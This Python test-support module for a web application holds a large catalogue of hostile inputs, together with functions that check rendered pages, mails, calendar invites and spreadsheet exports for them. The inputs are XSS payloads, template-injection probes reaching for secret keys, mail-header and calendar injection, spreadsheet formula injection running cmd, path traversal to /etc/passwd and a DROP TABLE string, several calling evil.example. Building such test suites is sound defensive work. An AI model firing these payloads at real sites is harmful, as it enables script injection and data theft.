"""What hostile people type, and how one tells that a page, a mail or an export kept it harmless."""

import re
from collections.abc import Iterable, Iterator
from email.message import EmailMessage
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

from bleach._vendor import html5lib  # bleach’s own parser: a tree as browsers build it
from icalendar import Calendar

RUN = "tripwire()"
EVIL = "https://evil.example"
SQUARE = "82646281"  # 9091 × 9091, if somebody multiplies
PRESSED = "/tripwire"  # where a button leads that no member may make

HOSTILE: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\n>{RUN}</script\t>",
        f"<script/x>{RUN}</script>",
        f"<script>{RUN}",
        f"</script><script>{RUN}//",
        f"<<script>{RUN}//<</script>",
        f"<script>/*</script><script>*/{RUN}</script>",
        f"<script type=module>import '{EVIL}/x.js'</script>",
        f"<scrİpt>{RUN}</scrİpt>",
        f"<ſcript>{RUN}</ſcript>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"<script>window['trip'+'wire']()</script><noscript>{RUN}</noscript>",
        f"<script src=data:text/javascript,{RUN}></script>",
        f"<script src='//evil.example/x.js' async defer>{RUN}</script x='>'>",
    ),
    "handler": (
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}' //>",
        f"<img src=x:x\tonerror={RUN}>",
        f"<img/src=x/onerror={RUN}>",
        f'<img src="x` `<script>{RUN}</script>"` `>',
        f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<a id=x tabindex=1 onfocus={RUN}>x</a>",
        f"<p onpointerenter={RUN}>x</p>",
        f"<p OnClIcK={RUN}>x</p>",
        f"<p title='a' title=\"b\" onclick\n=\n{RUN}>x</p>",
        f"<b/onmouseover={RUN}>x</b>",
        f"<td onclick={RUN}><table onclick={RUN}><p on\0click={RUN}>",
        f'" onmouseover="{RUN}" x="',
        f"' autofocus onfocus='{RUN}",
        f"x onmouseover={RUN}",
    ),
    "address": (
        f"<a href='javascript:{RUN}'>x</a>",
        f"<a href=' \x01javascript:{RUN}'>x</a>",
        f"<a href='java\tscript:{RUN}'>x</a>",
        f"<a href='java\r\nscript:{RUN}'>x</a>",
        f"<a href='java\0script:{RUN}'>x</a>",
        f"<a href='&#106;avascript:{RUN}'>x</a>",
        f"<a href='&#x6A;&#x61;vascript&colon;{RUN}'>x</a>",
        f"<a href='&#0000106avascript:{RUN}'>x</a>",
        f"<a href='&Tab;javascript&NewLine;:{RUN}'>x</a>",
        f"<a href='JaVaScRiPt:{RUN}'>x</a>",
        f"<a href='javascript&#58;//%0a{RUN}'>x</a>",
        f"<a href='vbscript:{RUN}'>x</a>",
        f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+'>tripwire</a>",
        f"<a href='view-source:javascript:{RUN}'>x</a>",
        f"<a href='feed:javascript:{RUN}'>x</a>",
        f"<a href='blob:{EVIL}/tripwire'>x</a>",
        "<a href='file:///etc/passwd#tripwire'>x</a>",
        f"<a href='jar:javascript:{RUN}!/'>x</a>",
        f"<img src='javascript:{RUN}'>",
        f"<img src=data:image/svg+xml,<svg/onload={RUN}>>",
        f"<img srcset='{EVIL}/tripwire.png 1x' src=x>",
        f"<blockquote cite='javascript:{RUN}'>x</blockquote>",
        f"<a href='\u2028javascript:{RUN}'>x</a>",
        f"<a href='javascript\u200b:{RUN}'>x</a>",
        f"<a href='javascrıpt:{RUN}'>x</a>",
        f"javascript:{RUN}",
        f"javascript://%0A{RUN}",
    ),
    "foreign": (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to='javascript:{RUN}'></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
        f"<math><mtext></mtext><mglyph><style><!--</style><p title='--><img src=x onerror={RUN}>'>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
        f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
        f"<noframes><p id='</noframes><img src=x onerror={RUN}>'></noframes>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
        f"<template><script>{RUN}</script></template>",
        f"<select><style></select><img src=x onerror={RUN}></style>",
        f"<table><td><svg><desc><img src=x onerror={RUN}></desc></svg></td></table>",
        f"<a><a href=x><svg><b><title><img src=x onerror={RUN}></title></b></svg>",
        f"<p><svg><title><b title='</title><img src=x onerror={RUN}>'></b></svg></p>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!--!><img src=x onerror={RUN}>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml version='1.0'?><x onclick={RUN}/>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
        f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]><p>&y;</p>",
    ),
    "frame": (
        f"<iframe src='javascript:{RUN}'></iframe>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<iframe src={EVIL}/tripwire></iframe>",
        f"<object data='javascript:{RUN}'></object>",
        f"<embed src='javascript:{RUN}'>",
        f"<frameset onload={RUN}><frame src='javascript:{RUN}'>",
        f"<form action='javascript:{RUN}'><button>x</button></form>",
        f"<form action={EVIL}/tripwire><input name=password></form>",
        f"<button form=page-form formaction='javascript:{RUN}'>x</button>",
        f"<base href='{EVIL}/tripwire/'>",
        f"<meta http-equiv=refresh content='0;url={EVIL}/tripwire'>",
        f"<link rel=stylesheet href={EVIL}/tripwire.css>",
        f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
        f"<portal src='javascript:{RUN}'></portal>",
        f"<isindex action='javascript:{RUN}' type=submit>",
    ),
    "style": (
        f"<style>@import '{EVIL}/tripwire.css';</style>",
        f"<style>body{{background:url(javascript:{RUN})}}</style>",
        f"<p style='background:url({EVIL}/tripwire)'>x</p>",
        f"<p style=\"width:expression({RUN})\">x</p>",
        "<p style='position:fixed;inset:0;z-index:9999'>tripwire</p>",
        f"<p style='-moz-binding:url({EVIL}/tripwire.xml)'>x</p>",
        f"<div style='b\\65havior:url({EVIL}/tripwire.htc)'>x</div>",
        f"<xss style='xss:expr/*tripwire*/ession({RUN})'>",
        f"#fff;}}*{{background:url({EVIL}/tripwire)",
        "</style><style>*{display:none}/*tripwire*/",
    ),
    "break": (
        f"</textarea><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</style></script></template></noscript><img src=x onerror={RUN}>",
        f"</option></select><img src=x onerror={RUN}>",
        f"</td></tr></table></main></body></html><script>{RUN}</script>",
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f"`><img src=x onerror={RUN}>",
        f"--><img src=x onerror={RUN}>",
        f"]]><script>{RUN}</script>",
        f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
        f"\\\"><script>{RUN}</script>",
        f"';{RUN};//",
        f'"}};{RUN};var x={{"a":"',
        f"${{{RUN}}}",
    ),
    "template": (
        "tripwire {{ 9091*9091 }}",
        "tripwire {% print(9091*9091) %}",
        "tripwire {%- for x in (9091*9091,) -%}{{ x }}{%- endfor -%}",
        "tripwire {{ config.SECRET_KEY }} {{ ''.__class__.__mro__[1].__subclasses__() }}",
        "tripwire {{ request.application.__globals__ }}{# 9091 #}",
        "tripwire ${9091*9091} #{9091*9091} <%= 9091*9091 %> @(9091*9091)",
        "tripwire %(site_name)s %s %n {0} {site.__class__} %d",
        "tripwire %%prenom%% %%site_name%% {{prenom}}",
        "tripwire #let x = 9091*9091; #read(\"/etc/passwd\") $9091 dot 9091$",
        "tripwire {{ '{{' }}9091*9091{{ '}}' }}",
    ),
    "shortcode": (
        f"[bouton vers={PRESSED} texte=tripwire]",
        f"[[bouton vers={PRESSED} texte=tripwire]]",
        f"[display-if role=logged][bouton vers={PRESSED} texte=tripwire][/display-if]",
        f"&#91;bouton vers={PRESSED} texte=tripwire&#93;",
        f"[bouton vers='{PRESSED}' texte='tripwire'",
        "[menu] [mes-infos] [nous-contacter] tripwire",
        f"tripwire]<b>[bouton vers={PRESSED}]",
        f"[les-paniers-intermittents contrat_nom='][bouton vers={PRESSED}] tripwire",
    ),
    "header": (
        "tripwire\r\nBcc: victim@evil.example",
        "tripwire\nX-Tripwire: 1",
        "tripwire%0d%0aSet-Cookie: tripwire=1",
        "tripwire\r\n\r\n<html><script>tripwire()</script>",
        "tripwire\u2028Bcc: victim@evil.example",
        "tripwire\x85X-Tripwire: 1\x0b\x0c",
        "=?utf-8?B?dHJpcHdpcmUNClgtVHJpcHdpcmU6IDE=?= tripwire",
        '"tripwire" <victim@evil.example>, <other@evil.example>',
    ),
    "calendar": (
        "tripwire\r\nATTACH:https://evil.example/tripwire",
        "tripwire\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:x",
        "tripwire\\nX-TRIPWIRE:1",
        "tripwire;X-TRIPWIRE=1:x,y",
        "tripwire\r\n X-TRIPWIRE:1",
        'tripwire";CN="x":mailto:victim@evil.example',
    ),
    "formula": (
        "=HYPERLINK(\"https://evil.example/tripwire\",\"x\")",
        "=cmd|'/C calc'!A0 tripwire",
        "+tripwire+1",
        "-2+3+cmd|' /C calc'!A0 tripwire",
        "@SUM(1+1)*cmd|' /C calc'!A0 tripwire",
        "\t=tripwire",
        "\r=tripwire",
        "＝tripwire",
        "%0A-tripwire",
        ";=tripwire",
    ),
    "path": (
        "../../../../etc/passwd#tripwire",
        "..\\..\\tripwire.ini",
        "%2e%2e%2ftripwire",
        "....//....//tripwire",
        "/etc/passwd\0tripwire.jpg",
        "//evil.example/tripwire",
        "\\\\evil.example\\tripwire",
        "https:evil.example/tripwire",
        "file:///etc/tripwire",
        "tripwire.html.jpg",
    ),
    "signs": (
        "tripwire \u202egnp.exe \u2066\u2067\u2069",
        "tri\u200bpw\u200dire\ufeff tripwire",
        "tripwire \ud800 \udfff \ud83d",
        "tripwire\0after",
        "tripwire \x01\x1b[31m\x7f\x9b",
        "tripwire +ADw-script+AD4-tripwire()+ADw-/script+AD4-",
        "tripwire \xbcscript\xbe \xef\xbc\x9cscript＞",
        "tripwire ＜script＞tripwire()＜/script＞",
        "tripwire \u0f3c\u0336\u0489" * 8,
        "tripwire " + "a\u0300\u0301\u0302" * 20,
        "tripwire \U000e0001\U000e0041 \U0010ffff \ufffe",
        "tripwire 👩‍👩‍👧‍👦🏴\U000e0067\U000e0062 İıſß",
        "<\0s\0c\0r\0i\0p\0t\0>tripwire()",
    ),
    "long": (
        "tripwire" + "x" * 5_000,
        "tripwire " + "<b>" * 150 + RUN,
        "tripwire\n" * 400,
        "tripwire" + "&amp;" * 800 + "&#" * 400,
    ),
    "polyglot": (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/"
        f"</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
        f"'\"()&%<acx><ScRiPt >{RUN}</ScRiPt>",
        f"\">><marquee><img src=x onerror={RUN}></marquee>\"></plaintext\\></|\\><plaintext>",
        f"{{{{9091*9091}}}}[bouton vers={PRESSED}]<script>{RUN}</script>\r\nX-Tripwire: 1=tripwire",
        f"' OR 1=1; DROP TABLE person; -- <img src=x onerror={RUN}>",
    ),
}  # fmt: skip
INPUTS = [text for kind in HOSTILE.values() for text in kind]

ADDRESSES = {  # attributes that lead somewhere
    "href", "src", "action", "formaction", "xlink:href", "{http://www.w3.org/1999/xlink}href",
    "cite", "poster", "background", "data", "longdesc", "manifest", "ping", "srcset", "lowsrc",
}  # fmt: skip
LOADED = {"src", "srcset", "poster", "background", "data", "action", "formaction"}
SCHEMES = {"", "http", "https", "mailto", "tel", "webcal"}
NEVER = {"object", "embed", "applet", "frame", "frameset", "portal", "style", "svg script",
         "math", "animate", "set", "use", "foreignobject", "marquee"}  # fmt: skip
OWN = {"", "localhost"}  # hosts
BLANK = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202e\ufeff]")
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def faults(html: str, *, of_editors: bool = False) -> list[str]:
    """Return what would act in a page: scripts, handlers, frames, addresses, templates that ran.

    What `of_editors` shows may hold links to elsewhere and buttons made by shortcodes.
    """
    found = list(_faults(html5lib.parse(html, namespaceHTMLElements=False), of_editors))
    if SQUARE in html:
        found.append("a template ran")
    return found


def _faults(tree: Element, of_editors: bool) -> Iterator[str]:
    for one in tree.iter():
        if not isinstance(one.tag, str):
            continue  # a comment
        name = one.tag.rpartition("}")[2].lower()
        attributes = {str(key).lower(): str(value) for key, value in one.attrib.items()}
        about = f"<{name} {attributes}>"[:300]
        if name in NEVER or (name == "template" and not attributes.get("id")):
            yield about
        if name == "script" and (one.text or not _is_own(attributes.get("src", EVIL))):
            yield about
        if name == "base" and "href" in attributes:
            yield about
        if name == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            yield about
        if name in ("iframe", "link") and not _is_own(attributes.get("src", "/")):
            yield about
        for key, value in attributes.items():
            if key.startswith("on") or key in ("style", "srcdoc"):
                yield about
            if key in ADDRESSES:
                yield from (
                    f"{fault}: {about}" for fault in _led_astray(name, key, value, of_editors)
                )


def _led_astray(name: str, key: str, value: str, of_editors: bool) -> Iterator[str]:
    bare = BLANK.sub("", value)
    scheme = SCHEME.match(bare)
    is_drawn = name == "img" and bare.startswith("data:image/svg+xml;charset=") and RUN not in bare
    if scheme and scheme[1].lower() not in SCHEMES and not is_drawn:
        yield "a dangerous address"
    if key in LOADED and not is_drawn and not _is_own(bare) and not (of_editors and name == "img"):
        yield "something from elsewhere"
    if not of_editors and (urlsplit(bare).path == PRESSED or "evil.example" in _host(bare)):
        yield "a way that somebody typed"


def _host(address: str) -> str:
    try:
        return urlsplit(address.replace("\\", "/")).hostname or ""
    except ValueError:
        return "evil.example"


def _is_own(address: str) -> bool:
    return _host(BLANK.sub("", address)) in OWN


def mail_faults(message: EmailMessage) -> list[str]:
    """Return what a reader's mail program would do that we did not mean."""
    found = []
    expected = {"message-id", "date", "from", "to", "reply-to", "subject", "auto-submitted",
                "content-type", "mime-version", "list-unsubscribe", "list-unsubscribe-post",
                "list-id", "precedence"}  # fmt: skip
    found += [f"header {name}" for name in message if name.lower() not in expected]
    found += [f"twice {name}" for name in expected if len(message.get_all(name, [])) > 1]
    if len(message["To"].addresses) != 1 or "victim" in message["To"].addresses[0].addr_spec:
        found.append(f"To: {message['To']}")
    for part in message.walk():
        kind = part.get_content_type()
        if kind == "text/html":
            found += mail_html_faults(str(part.get_content()))
        if kind == "text/calendar":
            found += calendar_faults(part.get_payload(decode=True))
        if part.is_multipart() or kind.startswith("text/"):
            continue
        found.append(f"a part {kind}")
    return found


def mail_html_faults(html: str) -> list[str]:
    """Return the faults of a mail; its styles are inside it, and ours."""
    body = re.sub(r' style="[^"<>]*"', "", re.sub(r"<style>[^<>]*</style>", "", html))
    return faults(body)


def calendar_faults(data: object) -> list[str]:
    """Return what somebody slipped into an appointment."""
    assert isinstance(data, bytes)
    found = []
    for component in Calendar.from_ical(data).walk():
        if component.name not in (
            "VCALENDAR",
            "VEVENT",
            "VALARM",
            "VTIMEZONE",
            "STANDARD",
            "DAYLIGHT",
        ):
            found.append(f"a component {component.name}")
        found += [key for key in component if key.upper() in ("ATTACH", "X-TRIPWIRE")]
        found += [key for key in component if "X-TRIPWIRE" in getattr(component[key], "params", {})]
    return found


def cell_faults(cells: Iterable[object]) -> list[str]:
    """Return texts that a spreadsheet would calculate."""
    texts = [cell for cell in cells if isinstance(cell, str) and "tripwire" in cell]
    return [text for text in texts if text.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
